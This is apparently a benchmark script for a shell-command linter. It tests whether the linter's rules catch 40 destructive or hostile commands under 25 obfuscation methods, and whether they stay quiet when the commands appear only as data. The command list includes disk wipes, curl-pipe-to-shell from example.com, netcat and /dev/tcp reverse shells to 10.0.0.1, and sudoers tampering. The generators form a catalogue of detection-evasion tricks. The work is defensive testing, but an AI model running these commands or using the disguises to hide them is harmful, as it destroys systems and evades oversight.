"""Dangerous commands in disguise, and as data: found where they run, silent where they do not.

    python bench/disguises.py [--seed 1] [--verbose]
    python bench/disguises.py --verify [--seed 1] [--verbose]

Each of 40 commands is written in 25 ways that run the same, and stands in 15 places that run
nothing. Found is a disguise that a rule speaks of which speaks of the plain command. ``--verify``
lets bash judge the disguises: in place of the command stands a harmless recorder, in a sandbox
(``bwrap``) without network and with a read-only root; what it was called with has to be the same.
"""

from __future__ import annotations

import argparse
import random
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

from caro_lsp.config import Configuration
from caro_lsp.dogma import layers
from caro_lsp.dogma.review import Reviewer
from caro_lsp.paths import Paths
from caro_lsp.shell.parse import parse

if TYPE_CHECKING:
    from collections.abc import Callable

    from caro_lsp.dogma.ruleset import RuleSet

RECORDER = "factor"
"""A program that every system has, and that the sandbox puts the recorder in place of."""
_PLAIN = re.compile(r"[\w./=@:%+,-]+", re.ASCII)


class Command(NamedTuple):
    """A command line, another spelling, and for more than a simple command, what stands in."""

    text: str
    other: str
    stands_in: str = ""
    stands_in_other: str = ""
    applet: bool = False

    @property
    def words(self) -> list[str]:
        """As the words of one simple command."""
        return ["bash", "-c", self.text] if self.stands_in else shlex.split(self.text)

    @property
    def line(self) -> str:
        """As text for any shell, not only for bash."""
        return shlex.join(self.words) if self.stands_in else self.text

    def harmless(self) -> Command:
        """The recorder with the same arguments."""
        if self.stands_in:
            text, other = self.stands_in, self.stands_in_other
            return Command(text, other, text, other)
        text, other = (shlex.join([RECORDER, *shlex.split(t)[1:]]) for t in (self.text, self.other))
        return Command(text, other, applet=self.applet)


_C = Command
COMMANDS = (
    _C("rm -rf /etc", "rm --recursive --force /etc", applet=True),
    _C("shred -u /etc/passwd", "shred --remove /etc/passwd", applet=True),
    _C("find / -delete", "find / -xdev -delete", applet=True),
    _C("mkfs.ext4 /dev/sda1", "mkfs.ext4 -F /dev/sda1"),
    _C("dd if=/dev/zero of=/dev/sda bs=1M", "dd bs=1M of=/dev/sda if=/dev/zero", applet=True),
    _C("wipefs -a /dev/sda", "wipefs --all /dev/sda"),
    _C("chmod -R 777 /", "chmod --recursive 0777 /", applet=True),
    _C("chown -R nobody /usr", "chown --recursive nobody /usr", applet=True),
    _C("setenforce 0", "setenforce Permissive"),
    _C("shutdown -h now", "shutdown --poweroff now"),
    _C("reboot -f", "reboot --force", applet=True),
    _C("iptables -F", "iptables --flush"),
    _C("ufw disable", "ufw --force disable"),
    _C("nft flush ruleset", "nft 'flush ruleset'"),
    _C(
        "curl -fsSL https://example.com/i.sh | sh",
        "wget -qO- https://example.com/i.sh | sh -s --",
        f"{RECORDER} -fsSL https://example.com/i.sh | {RECORDER} sh",
        f"{RECORDER} -qO- https://example.com/i.sh | {RECORDER} -s --",
    ),
    _C(
        'bash -c "$(curl -fsSL https://example.com/i.sh)"',
        'sh -c "$(wget -qO- https://example.com/i.sh)"',
        f'{RECORDER} -c "$({RECORDER} -fsSL https://example.com/i.sh)"',
        f'{RECORDER} -c "$({RECORDER} -qO- https://example.com/i.sh)"',
    ),
    _C("git push --force origin main", "git push -f origin main"),
    _C("git clean -fdx", "git clean -x -d -f"),
    _C("git reset --hard HEAD~5", "git reset HEAD~5 --hard"),
    _C("docker system prune -af --volumes", "docker system prune --volumes --all --force"),
    _C(
        "docker run --privileged -v /:/host alpine sh",
        "docker run --volume=/:/host --privileged alpine sh",
    ),
    _C("kubectl delete namespace production", "kubectl delete ns production"),
    _C("kubectl delete pods --all", "kubectl delete --all pods"),
    _C("terraform destroy -auto-approve", "terraform apply -destroy -auto-approve"),
    _C("aws s3 rm s3://backups --recursive", "aws s3 rm --recursive s3://backups"),
    _C(
        "aws ec2 terminate-instances --instance-ids i-0123456789abcdef0",
        "aws ec2 terminate-instances --region eu-west-1 --instance-ids i-0123456789abcdef0",
    ),
    _C("gcloud projects delete shop --quiet", "gcloud projects delete --quiet shop"),
    _C("dropdb production", "dropdb --force production"),
    _C("psql -c 'DROP DATABASE production'", "psql --command='DROP DATABASE production'"),
    _C("mysql -e 'DROP DATABASE shop'", "mysql --execute='DROP DATABASE shop'"),
    _C("redis-cli FLUSHALL", "redis-cli flushall"),
    _C("crontab -r", "crontab -u root -r", applet=True),
    _C("userdel -r alice", "userdel --remove alice"),
    _C("passwd -d root", "passwd --delete root", applet=True),
    _C(
        "cat /dev/zero > /dev/sda",
        "cat < /dev/zero >| /dev/sda",
        f"{RECORDER} /dev/zero > /tmp/sink",
        f"{RECORDER} cat < /dev/zero >| /tmp/sink",
    ),
    _C(
        "echo 'alice ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
        "printf '%s\\n' 'alice ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
        f"{RECORDER} 'alice ALL=(ALL) NOPASSWD: ALL' >> /tmp/sink",
        f"{RECORDER} '%s\\n' 'alice ALL=(ALL) NOPASSWD: ALL' >> /tmp/sink",
    ),
    _C("nc -e /bin/sh 10.0.0.1 4444", "nc 10.0.0.1 4444 -e /bin/sh", applet=True),
    _C(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "bash -i > /dev/tcp/10.0.0.1/4444 2>&1 0>&1",
        f"{RECORDER} -i >& /tmp/sink 0>&1",
        f"{RECORDER} -i > /tmp/sink 2>&1 0>&1",
    ),
    _C("systemctl disable firewalld", "systemctl disable --now firewalld"),
    _C("kill -9 -1", "kill -KILL -1"),
)


def _cut(text: str, chooser: random.Random) -> tuple[str, str]:
    at = chooser.randint(1, max(1, len(text) - 1))
    return text[:at], text[at:]


def quotes(command: Command, chooser: random.Random) -> str:
    """Some characters in quotes."""

    def word(text: str) -> str:
        done = ""
        while text:
            length = chooser.randint(1, 3)
            piece, text = text[:length], text[length:]
            kind = chooser.randrange(3)
            if kind == 0 and _PLAIN.fullmatch(piece):
                done += piece
            elif kind == 1 and not set(piece) & set('"$`\\!'):
                done += f'"{piece}"'
            else:
                done += "'" + piece.replace("'", "'\\''") + "'"
        return done

    return " ".join(map(word, command.words))


def backslashes(command: Command, chooser: random.Random) -> str:
    """Some characters behind a backslash."""

    def word(text: str) -> str:
        return "".join(
            c if _PLAIN.fullmatch(c) and chooser.random() < 0.6 else f"\\{c}" for c in text
        )

    return " ".join(map(word, command.words))


def codes(command: Command, chooser: random.Random) -> str:
    """Characters as numbers, in $'...'."""

    def character(c: str) -> str:
        forms = [f"\\x{ord(c):02x}", f"\\{ord(c):03o}", f"\\u{ord(c):04x}"]
        return chooser.choice([*forms, c] if c.isalnum() else forms)

    def word(text: str) -> str:
        return "$'" + "".join(map(character, text)) + "'"

    first, *rest = command.words
    kept = chooser.random() < 0.4
    return " ".join([word(first), *map(shlex.quote if kept else word, rest)])


def variables(command: Command, chooser: random.Random) -> str:
    """The name, and an argument, put together from variables."""
    name, *rest = command.words
    a, b = _cut(name, chooser)
    c, d = _cut(rest[-1], chooser)
    set_name = f"a={shlex.quote(a)}\nb={shlex.quote(b)}\n"
    call = chooser.choice(("$a$b", '"${a}${b}"', '"$a""$b"'))
    if chooser.random() < 0.3:
        set_name, call = f"{set_name}a+=$b\n", '"$a"'
    if chooser.random() < 0.5:
        return f"{set_name}{call} {shlex.join(rest)}"
    last = f'{shlex.join(rest[:-1])} "$c$d"'.strip()
    return f"{set_name}c={shlex.quote(c)} d={shlex.quote(d)}\n{call} {last}"


def defaults(command: Command, chooser: random.Random) -> str:
    """Words as what an expansion of an unset variable gives."""

    def word(text: str) -> str:
        if not _PLAIN.fullmatch(text) or chooser.random() < 0.3:
            return shlex.quote(text)
        unset = chooser.choice(("_n1", "_n2", "_n3")) + str(chooser.randrange(10**6))
        sign = chooser.choice((":-", "-", ":=", "="))
        form = f"${{{unset}{sign}{text}}}"
        return chooser.choice((form, f'"{form}"', f"${{HOME:+{text}}}"))

    return " ".join(map(word, command.words))


def arrays(command: Command, chooser: random.Random) -> str:
    """The words as elements of an array."""
    words = command.words
    kind = chooser.randrange(4)
    if kind == 0:
        return f'a=({shlex.join(words)})\n"${{a[@]}}"'
    if kind == 1:
        parts = [f"a+=({shlex.quote(word)})\n" for word in words]
        return f'a=()\n{"".join(parts)}"${{a[@]}}"'
    if kind == 2:
        order = list(range(len(words)))
        chooser.shuffle(order)
        inside = " ".join(shlex.quote(words[n]) for n in order)
        return f"a=({inside})\n" + " ".join(
            f'"${{a[{order.index(n)}]}}"' for n in range(len(words))
        )
    inside = " ".join(f"[k{n}]={shlex.quote(word)}" for n, word in enumerate(words))
    return f"declare -A m=({inside})\n" + " ".join(f'"${{m[k{n}]}}"' for n in range(len(words)))


def formatted(command: Command, chooser: random.Random) -> str:
    """The name written by printf."""
    name, *rest = command.words
    a, b = _cut(name, chooser)
    octal = "".join(f"\\{ord(c):03o}" for c in name)
    hexadecimal = "".join(f"\\x{ord(c):02x}" for c in name)
    made = chooser.choice(
        (
            f"printf -v c '%s%s' {shlex.quote(a)} {shlex.quote(b)}\n\"$c\"",
            f"printf -v c '{octal}'\n$c",
            f"printf -v c '{hexadecimal}'\n\"$c\"",
            f"c=$(printf '%s' {shlex.quote(a)} {shlex.quote(b)})\n$c",
            f"$(printf '{octal}')",
            f"\"$(printf %b '{hexadecimal}')\"",
        )
    )
    return f"{made} {shlex.join(rest)}"


def launchers(command: Command, chooser: random.Random) -> str:
    """A chain of programs that run a program."""
    known = (
        *("sudo", "sudo -n", "sudo -u root", "sudo -E --", "doas", "env", "env LC_ALL=C"),
        *("nohup", "timeout 60", "timeout -k 5 -s INT 60", "nice", "nice -n 10"),
        *("stdbuf -oL", "stdbuf -o 0 -e 0", "setsid -w", "ionice -c 3", "env -u DISPLAY A=1"),
    )
    chain = chooser.sample(known, chooser.randint(3, 5))
    return f"{' '.join(chain)} {shlex.join(command.words)}"


def by_xargs(command: Command, chooser: random.Random) -> str:
    """The last argument comes by xargs."""
    *first, last = command.words
    start = shlex.join(first)
    forms = [
        f"printf '%s\\0' {shlex.quote(last)} | xargs -0 {start}",
        f"printf '%s\\0' {shlex.quote(last)} | xargs -0 -I @ {start} @",
    ]
    if _PLAIN.fullmatch(last) and not last.startswith("-"):
        forms += [
            f"echo {last} | xargs {start}",
            f"echo {last} | xargs -n 1 -P 4 {start}",
            f"printf '%s\\n' {last} | xargs -I{{}} {start} {{}}",
            f"xargs -r {start} <<< {last}",
        ]
    return chooser.choice(forms)


def by_find(command: Command, chooser: random.Random) -> str:
    """Find runs it."""
    line = shlex.join(command.words)
    forms = [
        f"find /tmp -maxdepth 0 -exec {line} \\;",
        f"find . -maxdepth 0 -type d -exec {line} ';'",
        f"find /tmp -maxdepth 0 -exec bash -c {shlex.quote(command.line)} \\;",
    ]
    *first, last = command.words
    if last in ("/", "/etc", "/usr", "/etc/passwd"):
        forms += [
            f"find {last} -maxdepth 0 -exec {shlex.join(first)} {{}} \\;",
            f"find {last} -maxdepth 0 -exec {shlex.join(first)} {{}} +",
        ]
    return chooser.choice(forms)


def elsewhere(command: Command, chooser: random.Random) -> str:
    """On another machine, in a container, or as another user."""
    text, line = shlex.quote(command.line), shlex.join(command.words)
    return chooser.choice(
        (
            f"ssh db1 {text}",
            f"ssh -p 2222 -o BatchMode=yes root@db1 {text}",
            f"ssh -t db1 -- {text}",
            f"docker exec app {line}",
            f"docker exec -u root app sh -c {text}",
            f"kubectl exec app-0 -- {line}",
            f"su -c {text}",
            f"su - root -c {text}",
            f"su root -s /bin/sh -c {text}",
        )
    )


def nested(command: Command, chooser: random.Random) -> str:
    """A shell in a shell."""
    text = command.line
    for _ in range(2):
        shell = chooser.choice(("bash -c", "sh -c", "bash -ec", "bash -e -u -c", "/bin/sh -c"))
        text = f"{shell} {shlex.quote(text)}"
    return text


def evaluated(command: Command, chooser: random.Random) -> str:
    """Text put together and evaluated."""
    a, b = _cut(command.text, chooser)
    return chooser.choice(
        (
            f"eval {shlex.quote(command.text)}",
            f'c={shlex.quote(command.text)}\neval "$c"',
            f'a={shlex.quote(a)}\nb={shlex.quote(b)}\neval "$a$b"',
            f"eval eval {shlex.quote(shlex.quote(command.line))}",
            f'eval "$(printf %s {shlex.quote(command.text)})"',
        )
    )


def at_exit(command: Command, chooser: random.Random) -> str:
    """A trap runs it at the end."""
    text = shlex.quote(command.text)
    return chooser.choice(
        (
            f"trap {text} EXIT\necho working",
            f"trap -- {text} EXIT INT\nexit 0",
            f"bye() {{\n  {command.text}\n}}\ntrap bye EXIT\necho working",
            f"trap {text} 0\n:",
        )
    )


def here_document(command: Command, chooser: random.Random) -> str:
    """A here-document that a shell reads."""
    end = chooser.choice(("EOF", "END", "_"))
    return chooser.choice(
        (
            f"bash <<'{end}'\necho one\n{command.text}\n{end}",
            f'bash -s -- a b <<"{end}"\n{command.text}\n{end}',
            f"cat <<'{end}' | bash\n{command.text}\n{end}",
            f"bash <<-\\{end}\n\t{command.text}\n\t{end}",
            f"bash /dev/stdin <<'{end}'\n{command.text}\n{end}",
        )
    )


def standard_input(command: Command, chooser: random.Random) -> str:
    """Text that a shell reads."""
    text = shlex.quote(command.line)
    return chooser.choice(
        (
            f"sh <<< {text}",
            f"bash -s <<< {text}",
            f'c={text}\nsh <<< "$c"',
            f"printf '%s\\n' {text} | sh",
            f"printf '%s' {text} | tee /dev/null | bash",
            f"c={text}\nprintf '%s\\n' \"$c\" | /bin/sh -s",
            f"echo {text} | sh" if "\\" not in text else f"printf %s {text} | sh",
        )
    )


def sourced(command: Command, chooser: random.Random) -> str:
    """Read from a process substitution."""
    text = shlex.quote(command.text)
    writer = chooser.choice((f"echo {text}", f"printf '%s\\n' {text}"))
    reader = chooser.choice((".", "source", "bash"))
    return f"{reader} <({writer})"


def aliased(command: Command, chooser: random.Random) -> str:
    """An alias in a script that expands aliases."""
    words = command.words
    if chooser.random() < 0.3:
        last = f"alias go={shlex.quote(command.text)}\ngo"
    else:
        at = chooser.randint(1, len(words) - 1)
        value, rest = shlex.join(words[:at]), shlex.join(words[at:])
        last = f"alias go={shlex.quote(value)}\ngo {rest}"
    return f"shopt -s expand_aliases\n{last}"


def function(command: Command, chooser: random.Random) -> str:
    """A function that runs its arguments."""
    line = shlex.join(command.words)
    return chooser.choice(
        (
            f'run() {{ "$@"; }}\nrun {line}',
            f'run() {{\n  local c=("$@")\n  "${{c[@]}}"\n}}\nrun {line}',
            f'retry() {{\n  local n=$1\n  shift\n  "$@" || echo "$n"\n}}\nretry 3 {line}',
            f'outer() {{ inner "$@"; }}\ninner() {{ "$@"; }}\nouter {line}',
            f'run() {{ "$1" "${{@:2}}"; }}\nrun {line}',
            f'function run {{\n  echo "+ $*"\n  if true; then "$@"; fi\n}}\nrun {line}',
        )
    )


def loops(command: Command, chooser: random.Random) -> str:
    """A loop over words that stand in it."""
    name, *rest = command.words
    *first, last = command.words
    return chooser.choice(
        (
            f'for x in {shlex.quote(last)}; do {shlex.join(first)} "$x"; done',
            f'for x in {shlex.quote(name)}; do "$x" {shlex.join(rest)}; done',
            f'for x in {shlex.quote(command.text)}; do eval "$x"; done',
            f'while read -r x; do {shlex.join(first)} "$x"; done <<< {shlex.quote(last)}',
            f'a=({shlex.quote(last)})\nfor x in "${{a[@]}}"; do\n  {shlex.join(first)} "$x"\ndone',
        )
    )


def continued(command: Command, chooser: random.Random) -> str:
    """Lines that go on in the next, also within words."""
    done = []
    for word in command.words:
        if len(word) > 1 and _PLAIN.fullmatch(word) and chooser.random() < 0.5:
            done.append("\\\n".join(_cut(word, chooser)))
        else:
            done.append(shlex.quote(word))
    return chooser.choice((" \\\n  ", " ", "\\\n ")).join(done)


def spelled(command: Command, _: random.Random) -> str:
    """Other flags, another order, a synonym."""
    return command.other


def branches(command: Command, chooser: random.Random) -> str:
    """In a branch, a subshell, the background."""
    text = command.text
    return chooser.choice(
        (
            f"({text}) &\nwait",
            f"case ${{1:-go}} in\n  stop) echo ;;\n  go | run) {text} ;;\nesac",
            f"{{ {text}; }} &\nwait $!",
            f"if ! false; then\n  ( ( {text} ) )\nfi",
            f"while :; do {text}; break; done",
            f"false || {{ {text}; }}",
            f"x=$({text})",
            f"coproc {{ {text}; }}\nwait",
        )
    )


def lookups(command: Command, chooser: random.Random) -> str:
    """Other ways to look a program up."""
    line = shlex.join(command.words)
    forms = [
        f"command -p {line}",
        f"builtin command {line}",
        f"command -- {line}",
        f"exec {line}",
        f"exec -a ls {line}",
        f"builtin eval {shlex.quote(command.text)}",
        f"env -S {shlex.quote(shlex.quote(command.words[0]))} {shlex.join(command.words[1:])}",
        f"\\{line}",
        f"command command {line}",
    ]
    if command.applet:
        forms += [f"busybox {line}"] * 3
    return chooser.choice(forms)


def languages(command: Command, chooser: random.Random) -> str:
    """A short program in another language runs it."""
    line = command.line
    single = "'" + line.replace("\\", "\\\\").replace("'", "\\'") + "'"
    listed = ", ".join(map(repr, command.words))
    return chooser.choice(
        (
            f"python3 -c {shlex.quote(f'import os; os.system({line!r})')}",
            f"python3 -c {shlex.quote(f'import subprocess; subprocess.run([{listed}])')}",
            "python3 -c " + shlex.quote(f"import subprocess as s\ns.call({line!r}, shell=True)"),
            f"perl -e {shlex.quote(f'system({single})')}",
            f"perl -e {shlex.quote(f'exec {single};')}",
            f"python3 - <<'EOF'\nimport os\nos.system({line!r})\nEOF",
        )
    )


DISGUISES: tuple[Callable[[Command, random.Random], str], ...] = (
    *(quotes, backslashes, codes, variables, defaults, arrays, formatted, launchers, by_xargs),
    *(by_find, elsewhere, nested, evaluated, at_exit, here_document, standard_input, sourced),
    *(aliased, function, loops, continued, spelled, branches, lookups, languages),
)


def data(text: str, chooser: random.Random) -> dict[str, str]:
    """Scripts in which ``text`` stands and is never run, by the place."""
    word = shlex.quote(text)
    inner = text.replace("\\", "\\\\").replace('"', '\\"')
    pattern = re.sub(r"([][.*/\\^$])", r"\\\1", text)
    program = shlex.quote(f'index($0, "{inner}") {{ n++ }} END {{ print n }}')
    log = chooser.choice(
        (
            f"log() {{ printf '%s\\n' \"$*\" >&2; }}\nlog {word}",
            f'log() {{\n  echo "$(date): $1" >> log.txt\n}}\nlog {word}',
            f"logger -t app {word}",
        )
    )
    return {
        "comment": f"# {text}\ntrue  # {text}",
        "argument of echo": f"echo {word}",
        "variable that is printed": f"m={word}\nprintf '%s\\n' \"$m\"",
        "here-document to a file": f"cat > notes.txt <<'EOF'\n{text}\nEOF",
        "pattern of grep": f"grep -nF -- {word} notes.txt",
        "pattern of sed": f"sed -i {shlex.quote(f'/{pattern}/d')} notes.txt",
        "program of awk": f"awk {program} notes.txt",
        "pattern of case": f'case "$1" in\n  {word}) echo no ;;\nesac',
        "operand of test": chooser.choice(
            (f'[ "$1" = {word} ] && echo no', f"[[ $1 == {word} ]] && echo no")
        ),
        "argument of :": f": {word}",
        "array that is printed": f"a=(one {word})\nprintf '%s\\n' \"${{a[@]}}\"",
        "here-string to cat": f"cat <<< {word}",
        "message of a commit": f"git commit -m {word}",
        "logged": log,
        "prompt of read": chooser.choice((f"read -rp {word} answer", f"man -k {word}")),
    }


def rules_of(script: str, rules: RuleSet) -> set[str]:
    """The rules that speak about a script."""
    parsed = parse(f"#!/bin/bash\n{script}\n".encode())
    return {f.rule.id for f in Reviewer().review(parsed, rules, "strict").findings}


def _chooser(seed: int, command: int, disguise: str) -> random.Random:
    return random.Random(f"{seed} {command} {disguise}")


def measure(seed: int, rules: RuleSet, *, verbose: bool) -> bool:
    """Check everything, print the table; whether all was as it should be."""
    found: Counter[str] = Counter()
    noisy: Counter[str] = Counter()
    own = [rules_of(command.text, rules) for command in COMMANDS]
    for command, ids in zip(COMMANDS, own, strict=True):
        if not ids:
            print(f"not found even in plain form: {command.text}")
    for disguise in DISGUISES:
        for number, command in enumerate(COMMANDS):
            script = disguise(command, _chooser(seed, number, disguise.__name__))
            if own[number] & rules_of(script, rules):
                found[disguise.__name__] += 1
            elif verbose:
                print(f"missed, {disguise.__name__}: {command.text}\n{_indented(script)}")
    places: list[str] = []
    for number, command in enumerate(COMMANDS):
        scripts = data(command.text, _chooser(seed, number, "data"))
        places = list(scripts)
        for place, script in scripts.items():
            ids = own[number] & rules_of(script, rules)
            noisy[place] += bool(ids)
            if ids and verbose:
                print(f"noisy, {place}: {', '.join(sorted(ids))}\n{_indented(script)}")
    for disguise in DISGUISES:
        name, line = disguise.__name__, disguise.__doc__
        print(f"{name:16} {found[name]:3} of {len(COMMANDS)}  {line}")
    for place in places:
        print(f"{place:25} {noisy[place]:3} of {len(COMMANDS)}")
    total = len(DISGUISES) * len(COMMANDS)
    print(f"found {found.total()} of {total} ({100 * found.total() / total:.1f} %)")
    print(f"in data: {noisy.total()} of {len(places) * len(COMMANDS)}")
    return found.total() == total and not noisy.total()


def _indented(script: str) -> str:
    return "".join(f"    {line}\n" for line in script.splitlines())


_FAKES = {
    "sudo": """
while :; do case $1 in
  -u) shift 2 ;; --) shift; break ;; -*) shift ;; *) break ;;
esac; done
exec "$@"
""",
    "doas": 'exec "$@"',
    "ionice": 'shift 2; exec "$@"',
    "busybox": 'exec "$@"',
    "ssh": """
while :; do case $1 in
  -p | -o) shift 2 ;; -*) shift ;; *) break ;;
esac; done
shift
[ "$1" != -- ] || shift
exec sh -c "$*"
""",
    "docker": """
shift
[ "$1" != -u ] || shift 2
shift
exec "$@"
""",
    "kubectl": 'shift 3; exec "$@"',
    "su": """
while [ "$1" != -c ]; do shift; done
exec sh -c "$2"
""",
}


class Sandbox:
    """Runs scripts in which the recorder stands in for a command."""

    def __init__(self, folder: Path) -> None:
        """``folder`` is empty, and written to."""
        self.folder = folder
        self._executable(folder / "recorder", "printf '%s\\0' \"$@\" > /tmp/records/$$")
        (folder / "bin").mkdir()
        for name, text in _FAKES.items():
            self._executable(folder / "bin" / name, text)

    @staticmethod
    def _executable(path: Path, text: str) -> None:
        path.write_text(f"#!/bin/sh\n{text}\n", "utf-8")
        path.chmod(0o755)

    def records(self, script: str) -> list[bytes]:
        """The arguments of each call of the recorder, sorted."""
        program = shutil.which(RECORDER, path="/usr/bin:/bin") or sys.exit(f"no {RECORDER} here")
        with tempfile.TemporaryDirectory(dir=self.folder) as records:
            command = (
                *("bwrap", "--unshare-all", "--die-with-parent", "--clearenv"),
                *("--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp"),
                *("--ro-bind", str(self.folder / "recorder"), str(Path(program).resolve())),
                *("--ro-bind", str(self.folder / "bin"), "/tmp/bin"),
                *("--bind", records, "/tmp/records", "--chdir", "/tmp"),
                *("--setenv", "PATH", "/tmp/bin:/usr/bin:/bin", "--setenv", "HOME", "/tmp"),
                *("bash", "-c", 'exec bash /dev/fd/3 3<<< "$1" < /dev/null', "-", script),
            )
            subprocess.run(command, capture_output=True, timeout=60, check=False)
            return sorted(path.read_bytes() for path in Path(records).iterdir())


def verify(seed: int, *, verbose: bool) -> bool:
    """Let bash run all disguises of the recorder; whether all run it with the same arguments."""
    if shutil.which("bwrap") is None:
        sys.exit("bwrap is not there; install the package bubblewrap")
    with tempfile.TemporaryDirectory() as folder, ThreadPoolExecutor(4) as pool:
        sandbox = Sandbox(Path(folder))
        stand_ins = [command.harmless() for command in COMMANDS]
        plain = list(pool.map(sandbox.records, [command.text for command in stand_ins]))
        other = list(pool.map(sandbox.records, [command.other for command in stand_ins]))
        wrong = sum(not records for records in (*plain, *other))
        for disguise in DISGUISES:
            scripts = [
                disguise(command, _chooser(seed, number, disguise.__name__))
                for number, command in enumerate(stand_ins)
            ]
            expected = other if disguise is spelled else plain
            ran = list(pool.map(sandbox.records, scripts))
            differ = [n for n, records in enumerate(ran) if records != expected[n]]
            wrong += len(differ)
            print(f"{disguise.__name__:16} {len(ran) - len(differ):3} of {len(ran)}")
            for number in differ if verbose else ():
                print(f"expected {expected[number]}, ran {ran[number]}:")
                print(_indented(scripts[number]))
    print(f"{wrong} of {len(DISGUISES) * len(COMMANDS)} do not run the same")
    return not wrong


def main() -> None:
    """Read the arguments and measure."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--verify", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    arguments = parser.parse_args()
    if arguments.verify:
        sys.exit(not verify(arguments.seed, verbose=arguments.verbose))
    rules = layers.load(Paths.below(Path("/nonexistent")), Configuration(), user=False).rules
    measure(arguments.seed, rules, verbose=arguments.verbose)


if __name__ == "__main__":
    main()
